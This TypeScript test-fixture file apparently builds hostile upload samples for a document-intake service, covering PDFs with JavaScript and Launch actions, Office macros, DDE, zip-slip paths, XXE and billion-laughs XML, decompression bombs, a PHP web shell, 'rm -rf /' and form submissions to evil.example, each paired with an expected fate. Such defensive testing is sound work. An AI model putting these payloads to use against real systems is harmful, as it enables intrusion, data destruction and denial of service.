import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { eicar } from '../simulators/clamd.ts';
import { brokenPdf, endlessPdf, pdfOfPages, tiffOfPages } from '../src/platform/pages/sample-documents.test-data.ts';
import { docx, heic, image, objectStream, pdf, script, wallOfPixels, xlsx, zip } from './sample-files.ts';

// What people with bad intent, and broken programs, hand in. Everything is made here: no file of anybody else is kept.

/** What becomes of a file: refused in these words, found to be a virus, or kept and never shown as it came. */
export type Fate = { readonly refused: string } | 'infected' | 'kept';

export interface HostileFile {
  readonly says: string;
  readonly name: string;
  readonly make: () => Buffer | Promise<Buffer>;
  readonly fate: Fate;
}

const of =
  (name: string, fate: Fate) =>
  (says: string, make: HostileFile['make']): HostileFile => ({ says, name, make, fate });

const refused = (code: string): Fate => ({ refused: `papers.${code}` });
const bytes = (...parts: (string | Uint8Array)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));

/** Objects put into a PDF, or a page that draws `content` with `resources`. */
const objects = (text: string) => () => pdf(text);
const stream = (number: number, dict: string, content: Uint8Array | string): string =>
  `${number} 0 obj\n<<${dict}/Length ${content.length}>>\nstream\n${Buffer.from(content as string, 'latin1').toString('latin1')}\nendstream\nendobj\n`;
const packed = (number: number, dict: string, content: Uint8Array): string =>
  stream(number, `${dict}/Filter/FlateDecode`, deflateSync(content).toString('latin1'));

/** A whole PDF of objects by hand, with a table of contents that says where they lie. */
function whole(all: Readonly<Record<number, string>>, trailer = '/Root 1 0 R'): Buffer {
  let body = '%PDF-1.7\n';
  const places: string[] = [];
  for (const [number, text] of Object.entries(all)) {
    places.push(`${number} 1\n${String(body.length).padStart(10, '0')} 00000 n \n`);
    body += text.startsWith(`${number} 0 obj`) ? text : `${number} 0 obj\n${text}\nendobj\n`;
  }
  return Buffer.from(
    `${body}xref\n${places.join('')}trailer\n<<${trailer}/Size 999>>\nstartxref\n${body.length}\n%%EOF\n`,
    'latin1',
  );
}

const catalog = '<</Type/Catalog/Pages 2 0 R>>';
const pageTree = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const page = (more: string) => `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]${more}>>`;

/** A PDF of one page that draws this. */
const drawing = (content: string, resources = '', more: Readonly<Record<number, string>> = {}) =>
  whole({
    ...{ 1: catalog, 2: pageTree, 3: page(`/Contents 4 0 R/Resources<<${resources}>>`), 4: stream(4, '', content) },
    ...more,
  });

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_048_576);

/** Megabytes of nothing, packed: the first is, and then repeated, which takes no time. */
function packedZeros(megabytes: number): Buffer {
  const one = deflateRawSync(zeros(1), { finishFlush: constants.Z_FULL_FLUSH });
  return bytes(...Array.from({ length: megabytes }, () => one), Buffer.from([3, 0]));
}

/** The same as a stream of a PDF or an image holds it. */
function deflatedZeros(megabytes: number): Buffer {
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE((((megabytes * 1_048_576) % 65_521) * 65_536 + 1) >>> 0);
  return bytes(Buffer.from([0x78, 0x9c]), packedZeros(megabytes), sum);
}

/** The same as an archive holds it. */
function gzippedZeros(megabytes: number): Buffer {
  const end = Buffer.alloc(8);
  const one = zeros(1);
  end.writeUInt32LE(Array.from({ length: megabytes }, () => one).reduce((sum, each) => crc32(each, sum), 0));
  end.writeUInt32LE(megabytes * 1_048_576, 4);
  return bytes(Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), packedZeros(megabytes), end);
}

const active = of('đơn.pdf', refused('pdf_active'));
const unreadable = of('đơn.pdf', refused('pdf_unreadable'));
const keptPdf = of('đơn.pdf', 'kept');

const actions: readonly HostileFile[] = [
  active('runs a script when opened', () =>
    whole({ 1: `<</Type/Catalog/Pages 2 0 R/OpenAction ${script}>>`, 2: pageTree, 3: page('') }),
  ),
  active('runs a script whose name is spelled in figures', objects('4 0 obj\n<</S/#4a#61vaScript/JS(1)>>\nendobj')),
  active('keeps a script among its names', objects('4 0 obj\n<</Names<</JavaScript 5 0 R>>>>\nendobj')),
  active('runs a script when a page is turned', () =>
    whole({ 1: catalog, 2: pageTree, 3: page(`/AA<</O ${script}>>`) }),
  ),
  active('runs a script when a field is left', objects(`4 0 obj\n<</FT/Tx/AA<</Bl ${script}>>>>\nendobj`)),
  active('hides a script in packed objects', objects(objectStream(`4 0 ${script}`))),
  active('hides a script in packed objects spelled in figures', () =>
    pdf(objectStream(`4 0 ${script}`).replace('/ObjStm', '/#4fbj#53tm')),
  ),
  active('hides a script behind a comment', objects('4 0 obj\n<</S%\n/JavaScript%\n/JS(1)>>\nendobj')),
  active('starts a program', objects('4 0 obj\n<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>\nendobj')),
  active('starts a program spelled in figures', objects('4 0 obj\n<</S/L#61unch/F(cmd.exe)>>\nendobj')),
  active('starts a program when opened', () =>
    whole({ 1: '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>>>', 2: pageTree, 3: page('') }),
  ),
  active('is a form of its own (XFA)', objects('4 0 obj\n<</XFA[(template)5 0 R]>>\nendobj')),
  active('plays a film with a program (RichMedia)', objects('4 0 obj\n<</Subtype/RichMedia>>\nendobj')),
  active('sends what is typed to somebody', objects('4 0 obj\n<</S/SubmitForm/F(http://evil.example/)>>\nendobj')),
  active('fills its fields from a file', objects('4 0 obj\n<</S/ImportData/F(\\\\\\\\evil\\\\a.fdf)>>\nendobj')),
  active('opens the file it carries', objects('4 0 obj\n<</S/GoToE/T<</R/C/N(a.exe)>>>>\nendobj')),
  active('plays a film by a script (Rendition)', objects('4 0 obj\n<</S/Rendition/OP 0/R 5 0 R>>\nendobj')),
  active(
    'opens another file over the network',
    objects('4 0 obj\n<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)>>\nendobj'),
  ),
  unreadable('packs its objects twice', () =>
    pdf(
      objectStream('', deflateSync(deflateSync(Buffer.from(`4 0 ${script}`)))).replace(
        '/Filter/FlateDecode',
        '/Filter[/FlateDecode/FlateDecode]',
      ),
    ),
  ),
  unreadable('packs its objects as hexadecimal figures', () =>
    pdf(
      objectStream('', Buffer.from(Buffer.from(`4 0 ${script}`).toString('hex'))).replace(
        'FlateDecode',
        'ASCIIHexDecode',
      ),
    ),
  ),
  unreadable('packs its objects in no way that is known', objects(objectStream('', Buffer.from('not packed')))),
  unreadable('packs 300 MB of nothing into its objects', () => pdf(objectStream('', deflatedZeros(300)))),
  unreadable('holds thousands of packed streams', () =>
    pdf(Array.from({ length: 5_001 }, () => objectStream('4 0 <</A/B>>')).join('\n')),
  ),
  of('đơn.pdf', refused('pdf_locked'))('is locked', objects('trailer <</Encrypt 5 0 R>>')),
  of('đơn.pdf', refused('pdf_locked'))('is locked, spelled in figures', objects('trailer <</#45ncrypt 5 0 R>>')),
];

const structures: readonly HostileFile[] = [
  keptPdf('has no table of contents and no objects', () => brokenPdf),
  keptPdf('has a table of contents of nonsense', () => bytes('%PDF-1.7\nxref\n0 999999999\nnonsense\n%%EOF\n')),
  keptPdf('begins its table of contents beyond its end', () =>
    bytes(
      pdf()
        .toString('latin1')
        .replace(/startxref\n0/, 'startxref\n999999999999999999999'),
    ),
  ),
  keptPdf('has tables of contents that go round', () => {
    const one = whole({ 1: catalog, 2: pageTree, 3: page('') });
    const at = one.lastIndexOf('xref\n', one.length - 40);
    return bytes(one.toString('latin1').replace('/Size 999', `/Size 999/Prev ${at - 5}`));
  }),
  keptPdf('has pages that go round', () => whole({ 1: catalog, 2: '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>' })),
  keptPdf('has branches of pages that lead to one another', () =>
    whole({
      1: catalog,
      2: '<</Type/Pages/Kids[3 0 R]/Count 9>>',
      3: '<</Type/Pages/Kids[2 0 R]/Parent 2 0 R/Count 9>>',
    }),
  ),
  keptPdf('says that it has two thousand million pages', () =>
    whole({ 1: catalog, 2: '<</Type/Pages/Kids[3 0 R]/Count 2147483647>>', 3: page('') }),
  ),
  keptPdf('says that it has fewer pages than none', () =>
    whole({ 1: catalog, 2: '<</Type/Pages/Kids[3 0 R]/Count -5>>', 3: page('') }),
  ),
  keptPdf('has no page', () => whole({ 1: catalog, 2: '<</Type/Pages/Kids[]/Count 0>>' })),
  keptPdf('has no root', () => whole({ 1: catalog, 2: pageTree, 3: page('') }, '/Nothing 1 0 R')),
  keptPdf('has a root that is a number', () => whole({ 1: '42', 2: pageTree, 3: page('') })),
  keptPdf('has a hundred thousand branches one in the other', () =>
    whole({
      1: catalog,
      ...Object.fromEntries(
        Array.from({ length: 20_000 }, (_, i) => [
          i + 2,
          `<</Type/Pages/Kids[${i + 3} 0 R]/Count 1${i > 0 ? `/Parent ${i + 1} 0 R` : ''}>>`,
        ]),
      ),
    }),
  ),
  keptPdf('nests arrays a hundred thousand deep', () =>
    whole({ 1: catalog, 2: pageTree, 3: page(`/X ${'['.repeat(100_000)}${']'.repeat(100_000)}`) }),
  ),
  keptPdf('nests dictionaries fifty thousand deep', () =>
    whole({ 1: catalog, 2: pageTree, 3: page(`/X ${'<</A'.repeat(50_000)} 1 ${'>>'.repeat(50_000)}`) }),
  ),
  keptPdf('never ends a string', () => whole({ 1: catalog, 2: pageTree, 3: page(`/X (${'('.repeat(100_000)}`) })),
  keptPdf('has numbers larger than any machine knows', () =>
    whole({ 1: catalog, 2: pageTree, 3: page(`/Rotate ${'9'.repeat(10_000)}/UserUnit 1e308`) }),
  ),
  keptPdf('has a page as large as the sea', () =>
    whole({ 1: catalog, 2: pageTree, 3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1000000000 1000000000]>>' }),
  ),
  keptPdf('has a page of no size', () =>
    whole({ 1: catalog, 2: pageTree, 3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]>>' }),
  ),
  keptPdf('has a page that is a thread a thousand miles long', () =>
    whole({ 1: catalog, 2: pageTree, 3: '<</Type/Page/Parent 2 0 R/MediaBox[0 0 1 100000000]>>' }),
  ),
  keptPdf('has a page turned inside out', () =>
    whole({ 1: catalog, 2: pageTree, 3: '<</Type/Page/Parent 2 0 R/MediaBox[595 842 -595 -842]/Rotate 45>>' }),
  ),
  keptPdf('has a stream as long as it itself says', () =>
    whole({ 1: catalog, 2: pageTree, 3: page('/Contents 4 0 R'), 4: '<</Length 4 0 R>>\nstream\n0 0 m\nendstream' }),
  ),
  keptPdf('has a stream shorter than nothing', () =>
    whole({ 1: catalog, 2: pageTree, 3: page('/Contents 4 0 R'), 4: '<</Length -1>>\nstream\n0 0 m\nendstream' }),
  ),
  keptPdf('packs objects into the stream that they need to be unpacked', () => {
    const inner = '7 0 <</Type/ObjStm/N 1/First 4/Extends 7 0 R>>';
    return pdf(objectStream(inner).replace('/N 1', '/N 1/Extends 7 0 R'));
  }),
  keptPdf('has a packed table of contents that claims a thousand million objects', () =>
    whole({
      ...{ 1: catalog, 2: pageTree, 3: page('') },
      4: packed(4, '/Type/XRef/W[8 8 8]/Index[0 999999999]/Size 999999999/Root 1 0 R', Buffer.alloc(24)),
    }),
  ),
];

const drawings: readonly HostileFile[] = [
  keptPdf('draws itself a million million times', () => endlessPdf()),
  keptPdf('draws itself in itself', () =>
    drawing('/X Do', '/XObject<</X 5 0 R>>', {
      5: stream(5, '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>', '/X Do /X Do'),
    }),
  ),
  keptPdf('holds a pattern made of itself', () =>
    drawing('/Pattern cs /P scn 0 0 500 500 re f', '/Pattern<</P 5 0 R>>', {
      5: stream(
        5,
        '/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.001/YStep 0.001/Resources<</Pattern<</P 5 0 R>>>>',
        '/Pattern cs /P scn 0 0 1 1 re f',
      ),
    }),
  ),
  keptPdf('writes with a letter that writes itself', () =>
    drawing('BT /F 1 Tf (a) Tj ET', '/Font<</F 5 0 R>>', {
      5: '<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</F 5 0 R>>>>>>',
      6: stream(6, '', '1 0 d0 BT /F 1 Tf (a) Tj ET'),
    }),
  ),
  keptPdf('unpacks a page of 400 MB', () =>
    whole({
      1: catalog,
      2: pageTree,
      3: page('/Contents 4 0 R'),
      4: stream(4, '/Filter/FlateDecode', deflatedZeros(400).toString('latin1')),
    }),
  ),
  keptPdf('unpacks what was packed five times', () => {
    let content = deflatedZeros(300);
    for (let i = 1; i < 5; i++) content = deflateSync(content);
    return whole({
      ...{ 1: catalog, 2: pageTree, 3: page('/Contents 4 0 R') },
      4: stream(4, `/Filter[${'/FlateDecode'.repeat(5)}]`, content.toString('latin1')),
    });
  }),
  keptPdf('shows an image of ten thousand million points', () =>
    drawing('500 0 0 500 0 0 cm /X Do', '/XObject<</X 5 0 R>>', {
      5: packed(
        5,
        '/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8',
        zeros(1),
      ),
    }),
  ),
  keptPdf('shows an image larger than any machine can count', () =>
    drawing('/X Do', '/XObject<</X 5 0 R>>', {
      5: packed(
        5,
        '/Type/XObject/Subtype/Image/Width 4294967295/Height 4294967295/ColorSpace/DeviceCMYK/BitsPerComponent 16',
        Buffer.alloc(99),
      ),
    }),
  ),
  ...(['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode', 'DCTDecode', 'LZWDecode', 'RunLengthDecode'] as const).map(
    (filter) =>
      keptPdf(`shows an image of nonsense by ${filter}`, () =>
        drawing('/X Do', '/XObject<</X 5 0 R>>', {
          5: stream(
            5,
            `/Type/XObject/Subtype/Image/Width 9999/Height 9999/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/${filter}`,
            Buffer.from(Array.from({ length: 4_096 }, (_, i) => (i * 7919) % 251)).toString('latin1'),
          ),
        }),
      ),
  ),
  keptPdf('writes with a font of nonsense', () =>
    drawing('BT /F 9 Tf (a) Tj ET', '/Font<</F 5 0 R>>', {
      5: '<</Type/Font/Subtype/TrueType/BaseFont/A/FontDescriptor 6 0 R>>',
      6: '<</Type/FontDescriptor/FontName/A/FontFile2 7 0 R/Flags 4>>',
      7: stream(7, '', `\0\x01\0\0\xff\xff${'glyf'.repeat(500)}`),
    }),
  ),
  keptPdf('computes a colour with a function that calls itself', () =>
    drawing('/C cs 1 scn 0 0 500 500 re f', '/ColorSpace<</C[/Separation/A/DeviceRGB 5 0 R]>>', {
      5: '<</FunctionType 3/Domain[0 1]/Functions[5 0 R 5 0 R]/Bounds[0.5]/Encode[0 1 0 1]>>',
    }),
  ),
  keptPdf('saves its state a million times', () => drawing('q '.repeat(1_000_000))),
  keptPdf('draws two million lines', () => drawing('0 0 m 9 9 l S '.repeat(500_000))),
];

const attached: readonly HostileFile[] = [
  keptPdf('carries a program', () =>
    whole({
      1: '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>>>',
      ...{ 2: pageTree, 3: page(''), 4: '<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>' },
      5: stream(5, '/Type/EmbeddedFile', `MZ\x90\0${'\0'.repeat(500)}`),
    }),
  ),
  keptPdf('carries itself', () =>
    whole({
      1: '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.pdf)4 0 R]>>>>>>',
      ...{ 2: pageTree, 3: page(''), 4: '<</Type/Filespec/F(a.pdf)/EF<</F 5 0 R>>>>' },
      5: stream(5, '/Type/EmbeddedFile', pdfOfPages(2).toString('latin1')),
    }),
  ),
  keptPdf('links to an address that is a script', objects('4 0 obj\n<</S/URI/URI(javascript:alert\\(1\\))>>\nendobj')),
  keptPdf('is also a web page', () => bytes(pdf(), '<html><script>alert(1)</script></html>')),
  keptPdf('is also an archive', () => bytes(pdf(), zip({ 'a.js': 'alert(1)' }))),
  keptPdf('is also a shell script', () => bytes('%PDF-1.7\n#!/bin/sh\nrm -rf /\n', pdf())),
  keptPdf(
    'speaks of a signature that is none',
    objects('4 0 obj\n<</Type/Sig/ByteRange[0 1 2 3]/Contents<00>>>\nendobj'),
  ),
  of('đơn.pdf', refused('unknown_type'))('is a web page before it is a PDF', () =>
    bytes('<html><script>alert(1)</script>', pdf()),
  ),
  of('đơn.pdf', refused('pdf_broken'))('is only the beginning of one', () => bytes('%PDF-')),
];

const disguised: readonly HostileFile[] = (
  [
    ['a program of Windows', `MZ\x90\0${'\0'.repeat(300)}PE\0\0`],
    ['a program of Linux', `\x7fELF\x02\x01\x01${'\0'.repeat(200)}`],
    ['a program of macOS', `\xcf\xfa\xed\xfe${'\0'.repeat(200)}`],
    ['a web page', '<!doctype html><script>alert(1)</script>'],
    ['a web page after a thousand blanks', `${' '.repeat(1_000)}<html><script>alert(1)</script>`],
    ['a picture that is a program (SVG)', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
    ['XML that reads a file', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
    ['XML that laughs a thousand million times', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'],
    ['a script', 'WScript.CreateObject("WScript.Shell").Run("calc")'],
    ['commands', '@echo off\r\nformat c:\r\n'],
    ['a shell script', '#!/bin/sh\nrm -rf /\n'],
    ['a program for web servers', '<?php system($_GET["c"]); ?>'],
    ['a text with objects (RTF)', '{\\rtf1{\\object\\objocx{\\*\\objdata 0105}}}'],
    ['a page for printers (PostScript)', '%!PS-Adobe-3.0\n(/etc/passwd)(r)file\n'],
    ['a mail with attachments', 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n'],
    ['a film of Flash', `FWS\x09${'\0'.repeat(100)}`],
    ['a short cut of Windows', `L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F${'\0'.repeat(60)}`],
    ['an animation that is also a script (GIF)', `GIF89a/*${'\0'.repeat(50)}*/=1;alert(1)`],
    ['a picture of an older kind (BMP)', `BM${'\xff'.repeat(100)}`],
    ['a program of the web (WebAssembly)', `\0asm\x01\0\0\0${'\0'.repeat(50)}`],
    ['an archive (RAR)', `Rar!\x1a\x07\x01\0${'\0'.repeat(100)}`],
    ['an archive (7z)', `7z\xbc\xaf\x27\x1c${'\0'.repeat(100)}`],
    ['a disk', `${'\0'.repeat(32_769)}CD001${'\0'.repeat(3_000)}`],
    ['a film', `\0\0\0\x18ftypmp42\0\0\0\0mp42isom${'\0'.repeat(100)}`],
    [
      'a film of an endless kind (ASF)',
      `\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\xaa\0\x62\xce\x6c${'\0'.repeat(500)}`,
    ],
    ['nothing but zeros', '\0'.repeat(10_000)],
    ['one byte', 'a'],
  ] as const
).map(([says, content]) =>
  of(/SVG|GIF|BMP/.test(says) ? 'ảnh.jpg' : 'đơn.pdf', refused('unknown_type'))(`${says} under another name`, () =>
    bytes(content),
  ),
);

const moreDisguised: readonly HostileFile[] = [
  of('đơn.pdf', refused('empty'))('nothing at all', () => Buffer.alloc(0)),
  of('đơn.pdf', refused('unknown_type'))('a packed archive (gzip) of 200 MB', () => gzippedZeros(200)),
  of('đơn.docx', refused('office_locked'))('a Word file with a password', () =>
    bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '\0'.repeat(600), Buffer.from('EncryptedPackage', 'utf16le')),
  ),
  of('đơn.doc', refused('unknown_type'))('a Word file of the old kind, with macros', () =>
    bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', '\0'.repeat(600)),
  ),
  of('đơn.pdf', refused('wrong_type'))('a photo under the name of a PDF', () => image('jpeg')),
  of('ảnh.jpg', refused('wrong_type'))('a PDF under the name of a photo', () => pdf()),
  of('đơn.docx', refused('wrong_type'))('an Excel file under the name of a Word file', () => xlsx()),
  of('đơn.pdf.exe', refused('wrong_type'))('a PDF whose name ends like a program', () => pdf()),
  of('đơn.html', refused('wrong_type'))('a PDF whose name ends like a web page', () => pdf()),
  of('ảnh.svg', refused('wrong_type'))('a photo whose name ends like a drawing', () => image('png')),
];

const office = (says: string, more: Parameters<typeof docx>[0], code: string): HostileFile =>
  of('đơn.docx', refused(code))(says, () => docx(more));

const locateEnd = (content: Buffer): number => content.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));

const offices: readonly HostileFile[] = [
  office('has macros', { 'word/vbaProject.bin': 'x' }, 'office_macro'),
  office('has macros under another folder', { 'xl/a/VBAPROJECT.BIN': 'x' }, 'office_macro'),
  office('carries a program', { 'word/embeddings/hoa-don.exe': 'MZ' }, 'office_macro'),
  office('carries a script', { 'word/media/a.JS': 'alert(1)' }, 'office_macro'),
  office('carries a control (ActiveX)', { 'word/activeX/activeX1.bin': 'x' }, 'office_macro'),
  office('holds 30 MB of nothing', { 'word/media/1.bin': zeros(30) }, 'office_bomb'),
  of('đơn.docx', refused('office_bomb'))('holds two hundred parts of a megabyte', () => {
    const content = docx(Object.fromEntries(Array.from({ length: 210 }, (_, i) => [`word/${i}.bin`, 'x'])));
    const entry = Buffer.from([0x50, 0x4b, 0x01, 0x02]);
    for (let at = content.indexOf(entry); at >= 0; at = content.indexOf(entry, at + 4))
      content.writeUInt32LE(1_000_000, at + 24);
    return content;
  }),
  office(
    'holds more parts than can be counted',
    Object.fromEntries(Array.from({ length: 2_001 }, (_, i) => [`word/${i}.xml`, 'x'])),
    'office_bomb',
  ),
  of('đơn.docx', refused('office_bomb'))('says that its parts lie over one another', () => {
    const content = docx({ 'word/media/1.bin': Buffer.from('x'.repeat(50_000)) });
    const entry = content.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    content.writeUInt32LE(60_000, entry + 20);
    return content;
  }),
  of('đơn.docx', refused('office_locked'))('has a locked part', () => {
    const content = docx();
    const entry = content.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    content.writeUInt16LE(content.readUInt16LE(entry + 8) | 1, entry + 8);
    return content;
  }),
  of('đơn.docx', refused('office_broken'))('is of the kind for more than 4 GB', () => {
    const content = docx();
    content.writeUInt32LE(0xffffffff, locateEnd(content) + 16);
    return content;
  }),
  of('đơn.docx', refused('office_broken'))('has a directory beyond its end', () => {
    const content = docx();
    content.writeUInt32LE(content.length * 2, locateEnd(content) + 12);
    return content;
  }),
  of('đơn.docx', refused('office_broken'))('claims sixty thousand parts and has two', () => {
    const content = docx();
    content.writeUInt16LE(60_000, locateEnd(content) + 10);
    return content;
  }),
  of('đơn.docx', refused('office_broken'))('is some other archive', () => zip({ 'a.txt': 'a' })),
  of('đơn.docx', refused('unknown_type'))('is a program in an archive (JAR)', () =>
    zip({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': '\xca\xfe\xba\xbe' }),
  ),
  of('đơn.zip', refused('unknown_type'))('is an archive of archives', () =>
    zip({ 'a.zip': zip({ 'b.zip': zip({ c: zeros(1) }) }) }),
  ),
  of('đơn.docx', 'kept')('would unpack outside of its folder', () => docx({ '../../../etc/cron.d/a': 'x' })),
  of('đơn.docx', 'kept')('would unpack to a place of the system', () => docx({ '/etc/passwd': 'x', 'C:\\a.txt': 'x' })),
  of('đơn.docx', 'kept')('takes its template from somebody', () =>
    docx({
      'word/_rels/settings.xml.rels':
        '<Relationships><Relationship TargetMode="External" Target="http://evil.example/a.dotm"/></Relationships>',
    }),
  ),
  of('đơn.docx', 'kept')('laughs a thousand million times', () =>
    docx({ 'word/a.xml': '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>' }),
  ),
  of('đơn.docx', 'kept')('asks another program for its words (DDE)', () =>
    docx({ 'word/a.xml': '<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>' }),
  ),
  of('đơn.docx', 'kept')('has a second directory in its comment', () => {
    const content = docx();
    const end = locateEnd(content);
    const comment = Buffer.from('PK\x05\x06 no');
    content.writeUInt16LE(comment.length, end + 20);
    return bytes(content, comment);
  }),
];

/** A chunk of a PNG with its checksum. */
function chunk(type: string, data: Uint8Array): Buffer {
  const body = bytes(type, data);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return bytes(length, body, sum);
}

async function pngWith(...chunks: readonly Buffer[]): Promise<Buffer> {
  const png = await image('png');
  return bytes(png.subarray(0, 33), ...chunks, png.subarray(33));
}

/** A TIFF of one directory by hand: entries of tag, type, count and value. */
function tiff(
  entries: readonly (readonly [tag: number, type: number, count: number, value: number])[],
  next = 0,
): Buffer {
  const head = Buffer.from([0x49, 0x49, 42, 0, 8, 0, 0, 0]);
  const table = Buffer.alloc(2 + entries.length * 12 + 4);
  table.writeUInt16LE(entries.length);
  for (const [i, [tag, type, count, value]] of entries.entries()) {
    table.writeUInt16LE(tag, 2 + i * 12);
    table.writeUInt16LE(type, 4 + i * 12);
    table.writeUInt32LE(count, 6 + i * 12);
    table.writeUInt32LE(value, 10 + i * 12);
  }
  table.writeUInt32LE(next, table.length - 4);
  return bytes(head, table, Buffer.alloc(500));
}

const tiffOf = (width: number, height: number) =>
  [
    [256, 4, 1, width],
    [257, 4, 1, height],
    [258, 3, 1, 8],
    [259, 3, 1, 1],
    [262, 3, 1, 1],
    [273, 4, 1, 100],
    [277, 3, 1, 1],
    [278, 4, 1, height],
    [279, 4, 1, 100],
  ] as const;

const jpegOf = async (width: number, height: number): Promise<Buffer> => {
  const jpeg = await image('jpeg');
  const at = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(height, at + 5);
  jpeg.writeUInt16BE(width, at + 7);
  return jpeg;
};

const png = of('ảnh.png', 'kept');
const jpg = of('ảnh.jpg', 'kept');
const tif = of('ảnh.tif', 'kept');
const tooLarge = (name: string) => of(name, refused('image_too_large'));
const broken = (name: string) => of(name, refused('image_broken'));

const images: readonly HostileFile[] = [
  tooLarge('ảnh.png')('is a wall of 400 million points in a few bytes', () => wallOfPixels(20_000)),
  broken('ảnh.png')('claims more points than can be counted', () => wallOfPixels(2_000_000_000)),
  tooLarge('ảnh.png')('really holds 144 million points', () =>
    sharp({ create: { width: 12_000, height: 12_000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 1 })
      .toBuffer(),
  ),
  tooLarge('ảnh.jpg')('claims 65,500 by 65,500 points', () => jpegOf(65_500, 65_500)),
  tooLarge('ảnh.tif')('claims a hundred thousand by a hundred thousand points', () => tiff(tiffOf(100_000, 100_000))),
  broken('ảnh.tif')('claims points without end', () => tiff(tiffOf(0xffffffff, 0xffffffff))),
  of('ảnh.tif', refused('unknown_type'))('has a directory that is not there', () =>
    bytes('II*\0\xff\xff\xff\x7f', Buffer.alloc(100)),
  ),
  tif('has pages that go round', () => tiff(tiffOf(10, 10), 8)),
  tif('has 400 pages', () => tiffOfPages(400)),
  tif('has 3,000 pages', () => tiffOfPages(3_000)),
  png('carries a text of 100 MB', () => pngWith(chunk('zTXt', bytes('a\0\0', deflatedZeros(100))))),
  png('carries a table of colours of 100 MB', () => pngWith(chunk('iCCP', bytes('a\0\0', deflatedZeros(100))))),
  png('carries a table of colours of nonsense', () =>
    pngWith(chunk('iCCP', bytes('a\0\0', deflateSync(bytes('nonsense'))))),
  ),
  png('is also a web page', async () => bytes(await image('png'), '<script>alert(1)</script>')),
  png('says a script in its notes', () => pngWith(chunk('tEXt', bytes('Comment\0<script>alert(1)</script>')))),
  jpg('is also an archive', async () => bytes(await image('jpeg'), zip({ 'a.exe': 'MZ' }))),
  jpg('says a program for web servers in its notes', async () => {
    const jpeg = await image('jpeg');
    const note = '<?php system($_GET["c"]); ?>';
    return bytes(jpeg.subarray(0, 2), '\xff\xfe', Buffer.from([0, note.length + 2]), note, jpeg.subarray(2));
  }),
  jpg('has notes about itself that go round (Exif)', async () => {
    const jpeg = await image('jpeg');
    const exif = bytes('Exif\0\0', tiff([[0x8769, 4, 1, 8]], 8));
    const length = Buffer.alloc(2);
    length.writeUInt16BE(exif.length + 2);
    return bytes(jpeg.subarray(0, 2), '\xff\xe1', length, exif, jpeg.subarray(2));
  }),
  broken('ảnh.jpg')('goes over itself ten thousand times', async () => {
    const jpeg = await sharp({ create: { width: 2_000, height: 2_000, channels: 3, background: '#b00' } })
      .jpeg({ progressive: true })
      .toBuffer();
    const scan = jpeg.lastIndexOf(Buffer.from([0xff, 0xda]));
    const again = jpeg.subarray(scan, jpeg.length - 2);
    return bytes(jpeg.subarray(0, -2), ...Array.from({ length: 10_000 }, () => again), '\xff\xd9');
  }),
  of('ảnh.webp', 'kept')('is an animation of a hundred pictures', () =>
    sharp(Buffer.alloc(40 * 4_000 * 3, 90), { raw: { width: 40, height: 4_000, channels: 3, pageHeight: 40 } })
      .webp()
      .toBuffer(),
  ),
  of('ảnh.heic', 'kept')('is a photo of boxes that claim to be endless', () =>
    bytes(heic, '\xff\xff\xff\xffmeta', '\0\0\0\x01mdat\xff\xff\xff\xff\xff\xff\xff\xff'),
  ),
];

const wholeOnes = {
  'đơn.pdf': async () => pdfOfPages(3),
  'ảnh.jpg': () => image('jpeg', 600, 400),
  'ảnh.png': () =>
    sharp(Buffer.from(Array.from({ length: 30_000 }, (_, i) => (i * 7919) % 256)), {
      raw: { width: 100, height: 100, channels: 3 },
    })
      .png()
      .toBuffer(),
